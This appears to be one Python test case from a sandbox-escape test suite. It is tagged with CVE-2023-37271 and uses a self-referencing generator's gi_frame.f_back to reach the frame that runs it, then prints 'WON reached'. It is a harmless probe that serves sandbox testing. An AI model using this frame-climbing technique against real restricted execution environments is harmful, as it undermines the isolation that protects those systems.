"""Climb from a generator expression to the frame that runs it.

guarantee: no-reflection
layer: language
wins: reflects
outcome: harmless
reference: CVE-2023-37271
"""

spy = (spy.gi_frame.f_back for _ in [0])
frame = [each for each in spy][0]
print("WON reached", frame)
